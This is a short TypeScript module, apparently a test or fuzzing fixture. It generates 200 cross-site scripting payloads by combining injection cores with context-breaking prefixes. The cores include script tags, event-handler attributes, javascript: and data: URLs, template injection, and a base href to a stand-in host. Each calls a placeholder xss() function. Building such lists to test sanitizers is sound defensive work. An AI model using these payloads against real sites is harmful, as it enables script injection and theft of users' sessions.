/** What runs where a text is taken for markup, a script or an address; each calls `xss`. */
const CORES: readonly string[] = [
  "<script>xss()</script>",
  "<img src=x onerror=xss()>",
  "<svg onload=xss()>",
  "<svg/onload=xss()//",
  "<iframe srcdoc='<script>parent.xss()</script>'>",
  "<details open ontoggle=xss()>",
  "<video><source onerror=xss()>",
  "<input autofocus onfocus=xss()>",
  "<a href=javascript:xss()>x</a>",
  "<math><mtext></form><mglyph><svg><script>xss()</script>",
  "<body onload=xss()>",
  "<style>@import 'x';</style><link rel=stylesheet href=x>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=javascript:xss()>",
  "<object data=javascript:xss()>",
  "javascript:xss()",
  "data:text/html,<script>xss()</script>",
  "{{constructor.constructor('xss()')()}}",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "\u202e<script>xss()</script>\u200b",
];

/** What ends the text that it may have been put into. */
const BEFORE: readonly string[] = [
  "",
  '">',
  "'>",
  "</title>",
  "</script>",
  "-->",
  "</textarea>",
  "`}",
  '"};xss();//',
  "]]>",
];

/** Two hundred texts, in an order that mixes them. */
export const PAYLOADS: readonly string[] = BEFORE.flatMap((before) =>
  CORES.map((core) => before + core),
).sort((one, other) => one.length - other.length || (one < other ? -1 : 1));
